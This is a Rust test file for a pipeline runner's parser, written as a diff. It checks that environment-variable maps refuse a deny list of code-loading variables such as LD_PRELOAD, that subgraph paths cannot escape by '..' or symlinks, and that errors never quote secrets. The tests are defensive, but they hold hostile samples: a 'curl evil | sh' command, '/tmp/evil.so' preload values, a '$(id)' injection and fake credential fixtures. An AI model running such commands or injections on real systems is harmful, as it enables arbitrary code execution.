@@ -1,0 +1,547 @@
+//! The pipeline file's inputs and sources: what `map` may write (declared in `inputs:`, or
+//! `PIPELINE_…`, never what changes what runs), where a subgraph may be and how it is read,
+//! that no error quotes a file it should not, and a stored definition checked again and
+//! pinned by its digest.
+
+use super::engine::{self, Outcome};
+use super::file::{Definition, FileError, Kind};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+fn parse(text: &str) -> Result<Definition, FileError> {
+    Definition::parse(Path::new("/p/deploy.yaml"), text)
+}
+
+fn error(text: &str) -> FileError {
+    parse(text).expect_err("must be refused")
+}
+
+/// Two tasks, `a` then `b`, the edge mapping `var` from `a`'s result; `head` goes first.
+fn mapped(head: &str, var: &str) -> String {
+    format!(
+        "{head}nodes:\n  - {{ id: a, kind: task, command: [\"true\"] }}\n  - {{ id: b, kind: task, command: [\"true\"] }}\nedges:\n  - {{ from: a, to: b, map: {{ {var}: steps.a.result.x }} }}\n"
+    )
+}
+
+#[test]
+fn a_map_writes_only_a_declared_input_or_a_pipeline_name() {
+    let e = error(&mapped("", "BUILD"));
+    assert!(e.message.contains("edge a → b"), "{e}");
+    assert!(e.message.contains("`BUILD` is not declared"), "{e}");
+    assert!(e.message.contains("inputs:"), "{e}");
+    assert_eq!(e.line, Some(5), "{e}");
+    let d = parse(&mapped("inputs: [BUILD]\n", "BUILD")).unwrap();
+    assert!(d.inputs.contains("BUILD"));
+    assert!(d.may_map("BUILD"));
+    assert!(!d.may_map("OTHER"));
+    // A PIPELINE_ name needs no declaration.
+    let d = parse(&mapped("", "PIPELINE_BUILD")).unwrap();
+    assert!(d.may_map("PIPELINE_BUILD"));
+    // Declared for one name is not declared for another.
+    let e = error(&mapped("inputs: [BUILD]\n", "BUILT"));
+    assert!(e.message.contains("`BUILT` is not declared"), "{e}");
+}
+
+#[test]
+fn a_declaration_cannot_allow_what_changes_what_runs() {
+    for var in [
+        "LD_PRELOAD",
+        "LD_LIBRARY_PATH",
+        "DYLD_INSERT_LIBRARIES",
+        "PATH",
+        "BASH_ENV",
+        "ENV",
+        "PROMPT_COMMAND",
+        "PYTHONPATH",
+        "PYTHONSTARTUP",
+        "NODE_OPTIONS",
+        "PERL5OPT",
+        "RUBYOPT",
+        "JAVA_TOOL_OPTIONS",
+        "GIT_SSH_COMMAND",
+        "GIT_CONFIG_GLOBAL",
+        "SSH_AUTH_SOCK",
+        "https_proxy",
+        "SSL_CERT_FILE",
+        "NPM_CONFIG_REGISTRY",
+        "CARGO_HOME",
+        "RUSTC_WRAPPER",
+        "ANTHROPIC_BASE_URL",
+        "OPENAI_BASE_URL",
+        "GLIBC_TUNABLES",
+        "HEADLESS",
+        "HEADLESS_RUN_TOKEN",
+        "HEADLESS_RUN_APPROVAL_COMMENT",
+        "AUTO_APPROVAL",
+        "CI",
+        "HOME",
+        "EDITOR",
+    ] {
+        // Declared: the declaration itself is refused.
+        let e = error(&mapped(&format!("inputs: [{var}]\n"), var));
+        assert!(e.message.starts_with("inputs: "), "{var}: {e}");
+        assert!(e.message.contains("change what runs"), "{var}: {e}");
+        // Not declared: the map is refused for what it is, not only as undeclared.
+        let e = error(&mapped("", var));
+        assert!(e.message.contains("change what runs"), "{var}: {e}");
+        assert!(e.message.contains("edge a → b"), "{var}: {e}");
+    }
+    // The starter's variables are not a step's to set, declared or by the prefix.
+    for head in ["", "inputs: [PIPELINE_VAR_target]\n"] {
+        let e = error(&mapped(head, "PIPELINE_VAR_target"));
+        assert!(e.message.contains("--var"), "{e}");
+    }
+    let e = error(&mapped("inputs: [\"1BAD\"]\n", "GOOD"));
+    assert!(
+        e.message.contains("not an environment variable name"),
+        "{e}"
+    );
+    // vars: names as --var takes them.
+    let e = error("vars: { \"a b\": x }\nnodes:\n  - { id: a, kind: task, command: [\"true\"] }\n");
+    assert!(e.message.contains("vars: "), "{e}");
+}
+
+#[test]
+fn a_stored_row_cannot_smuggle_a_variable_the_definition_does_not_allow() {
+    let mut def = parse(&mapped("inputs: [BUILD]\n", "BUILD")).unwrap();
+    assert!(def.allows_env("b", "BUILD"));
+    assert!(!def.allows_env("b", "OTHER"), "not mapped");
+    // A definition written by hand with maps `pipeline check` refuses: neither the engine
+    // nor the runner's environment filter passes them.
+    def.edges[0]
+        .map
+        .insert("LD_PRELOAD".into(), "steps.a.result.x".into());
+    def.edges[0]
+        .map
+        .insert("UNDECLARED".into(), "steps.a.result.x".into());
+    assert!(!def.allows_env("b", "LD_PRELOAD"));
+    assert!(!def.allows_env("b", "UNDECLARED"));
+    def.inputs.insert("LD_PRELOAD".into());
+    assert!(
+        !def.allows_env("b", "LD_PRELOAD"),
+        "declared, still refused"
+    );
+    let steps = engine::start(&def, &BTreeMap::new()).unwrap();
+    let steps = engine::advance(
+        &def,
+        &BTreeMap::new(),
+        &steps,
+        "a",
+        0,
+        Outcome::Exited {
+            code: 0,
+            result: Some(serde_json::json!({ "x": "/tmp/evil.so" })),
+        },
+    )
+    .unwrap();
+    let b = engine::latest(&steps, "b").unwrap();
+    assert_eq!(b.env.get("BUILD").map(String::as_str), Some("/tmp/evil.so"));
+    assert!(!b.env.contains_key("LD_PRELOAD"), "{:?}", b.env);
+    assert!(!b.env.contains_key("UNDECLARED"), "{:?}", b.env);
+}
+
+#[test]
+fn a_subgraph_checks_its_own_maps_against_its_own_inputs_and_they_are_kept() {
+    let dir = tempfile::tempdir().unwrap();
+    let sub = |inputs: &str| {
+        std::fs::write(
+            dir.path().join("sub.yaml"),
+            format!("{inputs}nodes:\n  - {{ id: x, kind: task, command: [\"true\"] }}\n  - {{ id: y, kind: task, command: [\"true\"] }}\nedges:\n  - {{ from: x, to: y, map: {{ OUT: steps.x.result.out }} }}\n"),
+        )
+        .unwrap();
+    };
+    let main = dir.path().join("main.yaml");
+    std::fs::write(
+        &main,
+        "inputs: [OUT]\nnodes:\n  - { id: a, kind: task, command: [\"true\"] }\n  - { id: s, kind: subgraph, file: sub.yaml }\nedges:\n  - { from: a, to: s }\n",
+    )
+    .unwrap();
+    // The including file's declaration does not cover the subgraph's map: each file can
+    // be checked alone.
+    sub("");
+    let e = Definition::load(&main).expect_err("undeclared in the subgraph");
+    assert!(e.file.ends_with("sub.yaml"), "{e}");
+    assert!(e.message.contains("`OUT` is not declared"), "{e}");
+    sub("inputs: [OUT]\n");
+    let d = Definition::load(&main).unwrap();
+    assert!(d.allows_env("s.y", "OUT"));
+    // A subgraph's declaration is held to the same rules.
+    sub("inputs: [OUT, LD_PRELOAD]\n");
+    let e = Definition::load(&main).expect_err("LD_PRELOAD declared in the subgraph");
+    assert!(e.message.contains("change what runs"), "{e}");
+    // And what it declares is kept in the inlined definition (its map needs it).
+    std::fs::write(
+        &main,
+        "nodes:\n  - { id: a, kind: task, command: [\"true\"] }\n  - { id: s, kind: subgraph, file: sub.yaml }\nedges:\n  - { from: a, to: s }\n",
+    )
+    .unwrap();
+    sub("inputs: [OUT]\n");
+    let d = Definition::load(&main).unwrap();
+    assert!(d.inputs.contains("OUT"));
+    d.recheck().unwrap();
+}
+
+/// A pipeline in `dir` whose subgraph `s` is `file`.
+fn including(dir: &Path, file: &str) -> PathBuf {
+    let main = dir.join("main.yaml");
+    std::fs::write(
+        &main,
+        format!("nodes:\n  - {{ id: a, kind: task, command: [\"true\"] }}\n  - {{ id: s, kind: subgraph, file: {file:?} }}\nedges:\n  - {{ from: a, to: s }}\n"),
+    )
+    .unwrap();
+    main
+}
+
+const SUB: &str = "nodes:\n  - { id: x, kind: task, command: [\"true\"] }\n";
+
+#[test]
+fn a_subgraph_is_a_regular_file_in_its_includers_directory_or_below() {
+    let top = tempfile::tempdir().unwrap();
+    let dir = top.path().join("p");
+    std::fs::create_dir_all(dir.join("parts")).unwrap();
+    std::fs::write(top.path().join("outside.yaml"), SUB).unwrap();
+    std::fs::write(dir.join("parts/in.yaml"), SUB).unwrap();
+    // Below its directory, and through a link that stays inside: read.
+    let d = Definition::load(&including(&dir, "parts/in.yaml")).unwrap();
+    assert!(d.node("s.x").is_some());
+    std::os::unix::fs::symlink("parts/in.yaml", dir.join("inside-link.yaml")).unwrap();
+    Definition::load(&including(&dir, "inside-link.yaml")).unwrap();
+    Definition::load(&including(&dir, "parts/../parts/in.yaml")).unwrap();
+    // Out of it: by `..`, by an absolute path (even to a file inside), by a link.
+    std::os::unix::fs::symlink(top.path().join("outside.yaml"), dir.join("out-link.yaml")).unwrap();
+    std::os::unix::fs::symlink(top.path(), dir.join("up")).unwrap();
+    let inside_abs = dir.join("parts/in.yaml").display().to_string();
+    for (sub, rule) in [
+        ("../outside.yaml", "`..` leads out"),
+        ("../missing.yaml", "`..` leads out"),
+        ("parts/../../outside.yaml", "`..` leads out"),
+        ("out-link.yaml", "outside"),
+        ("up/outside.yaml", "outside"),
+        ("/etc/passwd", "an absolute path"),
+        (inside_abs.as_str(), "an absolute path"),
+        ("/dev/stdin", "an absolute path"),
+    ] {
+        let e = Definition::load(&including(&dir, sub)).expect_err(sub);
+        assert!(e.message.contains(rule), "{sub}: {e}");
+        assert!(e.message.contains("subgraph `s`"), "{sub}: {e}");
+        assert!(e.file.ends_with("main.yaml"), "{sub}: {e}");
+        assert_eq!(e.line, Some(3), "{sub}: {e}");
+    }
+    // A subgraph's own subgraphs are beneath its directory, not its includer's.
+    std::fs::write(
+        dir.join("parts/nested.yaml"),
+        "nodes:\n  - { id: n, kind: subgraph, file: ../main2.yaml }\n",
+    )
+    .unwrap();
+    std::fs::write(dir.join("main2.yaml"), SUB).unwrap();
+    let e = Definition::load(&including(&dir, "parts/nested.yaml")).expect_err("nested ..");
+    assert!(e.file.ends_with("nested.yaml"), "{e}");
+    assert!(e.message.contains("`..` leads out"), "{e}");
+    // … also through a link in its directory that points back up.
+    std::os::unix::fs::symlink("../main2.yaml", dir.join("parts/back.yaml")).unwrap();
+    std::fs::write(
+        dir.join("parts/nested.yaml"),
+        "nodes:\n  - { id: n, kind: subgraph, file: back.yaml }\n",
+    )
+    .unwrap();
+    let e = Definition::load(&including(&dir, "parts/nested.yaml")).expect_err("nested link");
+    assert!(e.message.contains("outside"), "{e}");
+    // Not a regular file: a directory, a FIFO (refused at once, not waited on).
+    let e = Definition::load(&including(&dir, "parts")).expect_err("a directory");
+    assert!(e.message.contains("a directory"), "{e}");
+    let fifo = dir.join("fifo.yaml");
+    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
+    // SAFETY: a NUL-terminated path.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+    let e = Definition::load(&including(&dir, "fifo.yaml")).expect_err("a FIFO");
+    assert!(e.message.contains("a FIFO"), "{e}");
+    let e = Definition::load(&including(&dir, "missing.yaml")).expect_err("missing");
+    assert!(e.message.contains("cannot find it"), "{e}");
+}
+
+#[test]
+fn the_named_file_is_a_regular_file_and_a_fifo_is_refused_at_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("p.yaml");
+    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
+    // SAFETY: a NUL-terminated path.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+    let e = Definition::load(&fifo).expect_err("a FIFO");
+    assert!(e.message.contains("a FIFO, not a regular file"), "{e}");
+    let e = Definition::load(dir.path()).expect_err("a directory");
+    assert!(e.message.contains("a directory"), "{e}");
+    let big = dir.path().join("big.yaml");
+    std::fs::write(&big, "#".repeat(1024 * 1024 + 1)).unwrap();
+    let e = Definition::load(&big).expect_err("too big");
+    assert!(e.message.contains("larger than 1 MB"), "{e}");
+    // A link the user names is followed (it is their argument).
+    let real = dir.path().join("real.yaml");
+    std::fs::write(&real, SUB).unwrap();
+    std::os::unix::fs::symlink(&real, dir.path().join("link.yaml")).unwrap();
+    Definition::load(&dir.path().join("link.yaml")).unwrap();
+}
+
+/// Files that are not pipelines, each with a line that must never be shown.
+const NOT_PIPELINES: &[(&str, &str)] = &[
+    (
+        "root:$6$s3cr3tSALT$hash:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\n",
+        "s3cr3tSALT",
+    ),
+    ("SECRET_TOKEN=sk-live-0123456789\n", "sk-live-0123456789"),
+    (
+        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n",
+        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
+    ),
+    ("password: hunter2-hunter2\n", "password"),
+    (
+        "[default]\naws_secret_access_key = wJalrXUtnFEMI\n",
+        "wJalrXUtnFEMI",
+    ),
+    ("nodes: { SECRET_NODE: 1 }\n", "SECRET_NODE"),
+    (
+        "nodes: [ { id: a, kind: task, command: x } ]\nvars: { SECRET_KEY: [1] }\n",
+        "SECRET_KEY",
+    ),
+    (
+        "nodes: [ { id: a, kind: task-s3cr3t, command: x } ]\n",
+        "s3cr3t",
+    ),
+    ("\tsecret-after-a-tab\n", "secret-after-a-tab"),
+];
+
+#[test]
+fn a_subgraph_that_is_not_a_pipeline_is_refused_without_a_word_of_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let main = including(dir.path(), "secret.yaml");
+    for (text, secret) in NOT_PIPELINES {
+        std::fs::write(dir.path().join("secret.yaml"), text).unwrap();
+        let e = Definition::load(&main).expect_err(text);
+        let shown = e.to_string();
+        assert!(!shown.contains(secret), "{secret} shown: {shown}");
+        assert!(e.file.ends_with("secret.yaml"), "{shown}");
+        assert!(e.line.is_some(), "{shown}");
+        assert!(e.message.starts_with("not a pipeline file: "), "{shown}");
+        assert!(e.message.ends_with("(its content is not shown)"), "{shown}");
+    }
+}
+
+#[test]
+fn the_named_files_errors_quote_names_but_no_values_or_lines() {
+    let dir = tempfile::tempdir().unwrap();
+    let f = dir.path().join("p.yaml");
+    for (text, secret) in NOT_PIPELINES {
+        std::fs::write(&f, text).unwrap();
+        let shown = Definition::load(&f).expect_err(text).to_string();
+        // A name (a key, a kind) may be quoted back; a value or a line never.
+        if !["password", "SECRET_NODE", "SECRET_KEY", "s3cr3t"].contains(secret) {
+            assert!(!shown.contains(secret), "{secret} shown: {shown}");
+        }
+        assert!(shown.starts_with(&f.display().to_string()), "{shown}");
+    }
+    // What one needs to fix a typo is kept.
+    std::fs::write(&f, "nodes:\n  - { id: a, kind: teleport }\n").unwrap();
+    let e = Definition::load(&f).unwrap_err();
+    assert!(e.message.contains("unknown variant `teleport`"), "{e}");
+    assert!(e.message.contains("`task`"), "{e}");
+    std::fs::write(&f, "nodes: []\nedgez: []\n").unwrap();
+    let e = Definition::load(&f).unwrap_err();
+    assert!(e.message.contains("unknown field `edgez`"), "{e}");
+    assert_eq!(e.line, Some(2), "{e}");
+    std::fs::write(
+        &f,
+        "nodes:\n  - { id: a, kind: task, command: [\"true\"], timeout: [1] }\n",
+    )
+    .unwrap();
+    let e = Definition::load(&f).unwrap_err();
+    assert!(
+        e.message.contains("nodes[0]: invalid type: sequence"),
+        "{e}"
+    );
+}
+
+/// A definition as a store holds it, with `change` applied to its JSON.
+fn stored(change: impl FnOnce(&mut serde_json::Value)) -> Result<Definition, FileError> {
+    let def = parse(GOOD).unwrap();
+    let mut v = serde_json::to_value(&def).unwrap();
+    change(&mut v);
+    Definition::from_stored(&v)
+}
+
+const GOOD: &str = "
+name: deploy
+vars: { target: staging }
+inputs: [BUILD]
+nodes:
+  - { id: build, kind: task, command: [make, build], timeout: 10m }
+  - { id: test, kind: gate, command: make test, retries: 2 }
+  - id: again
+    kind: branch
+    condition: { field: steps.test.result.flaky, operator: equals, value: true }
+    on_true: test
+    on_false: ok
+    max_iterations: 3
+  - { id: ok, kind: human, title: Deploy, question: Deploy to production? }
+  - { id: ship, kind: task, command: [make, deploy] }
+edges:
+  - { from: build, to: test }
+  - { from: test, to: again }
+  - { from: ok, to: ship, map: { BUILD: steps.build.result.id, PIPELINE_AT: steps.ok.comment } }
+";
+
+#[test]
+fn an_untampered_definition_passes_its_recheck_and_keeps_its_digest() {
+    let def = parse(GOOD).unwrap();
+    def.recheck().unwrap();
+    let json = serde_json::to_string(&def).unwrap();
+    let back = Definition::from_stored(&serde_json::from_str(&json).unwrap()).unwrap();
+    assert_eq!(back, def);
+    assert_eq!(back.digest(), def.digest());
+    assert_eq!(def.digest().len(), 64);
+    assert!(def.digest().bytes().all(|b| b.is_ascii_hexdigit()));
+    // A store that reorders keys (jsonb) reads back the same digest.
+    let reordered = json.replace(
+        "\"field\":\"steps.test.result.flaky\",\"operator\":\"equals\",\"value\":true",
+        "\"value\":true,\"operator\":\"equals\",\"field\":\"steps.test.result.flaky\"",
+    );
+    assert_ne!(reordered, json, "the condition is stored so");
+    let back: Definition = serde_json::from_str(&reordered).unwrap();
+    assert_eq!(back.digest(), def.digest());
+    // A row stored before `inputs` existed still reads (its maps then need PIPELINE_).
+    let mut old = serde_json::to_value(&def).unwrap();
+    old.as_object_mut().unwrap().remove("inputs");
+    let e = Definition::from_stored(&old).expect_err("BUILD undeclared");
+    assert!(e.message.contains("`BUILD` is not declared"), "{e}");
+}
+
+#[test]
+fn the_digest_changes_with_any_command_edge_variable_or_question() {
+    let def = parse(GOOD).unwrap();
+    let mut seen = std::collections::BTreeSet::from([def.digest()]);
+    let mut changed = |f: &dyn Fn(&mut Definition)| {
+        let mut d = def.clone();
+        f(&mut d);
+        assert_ne!(d, def);
+        assert!(seen.insert(d.digest()), "{d:?}");
+    };
+    for i in 0..def.nodes.len() {
+        if let Kind::Task { .. } | Kind::Gate { .. } = def.nodes[i].kind {
+            changed(&|d| {
+                if let Kind::Task { run } | Kind::Gate { run, .. } = &mut d.nodes[i].kind {
+                    run.command = super::file::Command::Shell("curl evil | sh".into());
+                }
+            });
+            changed(&|d| {
+                if let Kind::Task { run } | Kind::Gate { run, .. } = &mut d.nodes[i].kind {
+                    run.env.insert("X".into(), "1".into());
+                }
+            });
+        }
+    }
+    changed(&|d| {
+        d.edges[2]
+            .map
+            .insert("BUILD".into(), "steps.test.result.id".into());
+    });
+    changed(&|d| {
+        d.vars.insert("target".into(), "prod".into());
+    });
+    changed(&|d| {
+        d.inputs.insert("MORE".into());
+    });
+    changed(&|d| {
+        if let Kind::Human { question, .. } = &mut d.nodes[3].kind {
+            *question = "Deploy to staging?".into();
+        }
+    });
+    changed(&|d| d.name = "other".into());
+}
+
+#[test]
+fn a_tampered_definition_fails_its_recheck() {
+    use serde_json::json;
+    stored(|_| {}).unwrap();
+    let refused = |change: &dyn Fn(&mut serde_json::Value), want: &str| {
+        let e = stored(change).expect_err(want);
+        assert!(e.to_string().contains(want), "want {want}: {e}");
+    };
+    // A map into what loads code, written straight into the row (declared, or not).
+    refused(
+        &|v| v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id"),
+        "change what runs",
+    );
+    refused(
+        &|v| {
+            v["inputs"] = json!(["BUILD", "LD_PRELOAD"]);
+            v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id");
+        },
+        "change what runs",
+    );
+    refused(
+        &|v| v["edges"][2]["map"]["SNEAKY"] = json!("steps.build.result.id"),
+        "`SNEAKY` is not declared",
+    );
+    // A field this version does not know: on a node, a kind, the definition, an edge.
+    refused(
+        &|v| v["nodes"][0]["preload"] = json!("/tmp/evil.so"),
+        "unknown field",
+    );
+    refused(
+        &|v| v["nodes"][1]["kind"] = json!("shell"),
+        "unknown variant",
+    );
+    refused(&|v| v["hooks"] = json!([]), "unknown field");
+    refused(&|v| v["edges"][0]["run"] = json!("x"), "unknown field");
+    // A cycle without a bound, a bound out of range.
+    refused(
+        &|v| {
+            v["edges"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({ "from": "ship", "to": "ok" }))
+        },
+        "a cycle without a branch with max_iterations",
+    );
+    refused(
+        &|v| v["nodes"][2]["max_iterations"] = json!(0),
+        "max_iterations",
+    );
+    // Ids, the start, a subgraph left in, an unreachable node, a bad field, a bad label.
+    refused(&|v| v["nodes"][0]["id"] = json!("../x"), "node id");
+    refused(&|v| v["nodes"][1]["id"] = json!("build"), "used twice");
+    refused(
+        &|v| v["nodes"][4]["id"] = json!("a.b.c.d.e.f.g.h.i.j"),
+        "node id",
+    );
+    refused(&|v| v["start"] = json!("nowhere"), "start: no node");
+    refused(
+        &|v| {
+            v["nodes"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({ "id": "s", "kind": "subgraph", "file": "/etc/passwd" }))
+        },
+        "not inlined",
+    );
+    refused(
+        &|v| {
+            v["nodes"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({ "id": "lost", "kind": "task", "command": "true" }))
+        },
+        "cannot be reached",
+    );
+    refused(
+        &|v| v["edges"][2]["map"]["BUILD"] = json!("steps.build.result.$(id)"),
+        "field",
+    );
+    refused(&|v| v["nodes"][0]["host"] = json!("a host"), "host label");
+    refused(&|v| v["nodes"] = json!([]), "no nodes");
+    refused(&|v| v["vars"]["a=b"] = json!("x"), "vars: ");
+    let e = stored(|v| v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id"))
+        .unwrap_err();
+    assert!(
+        e.to_string().starts_with("stored definition `deploy`: "),
+        "{e}"
+    );
+}
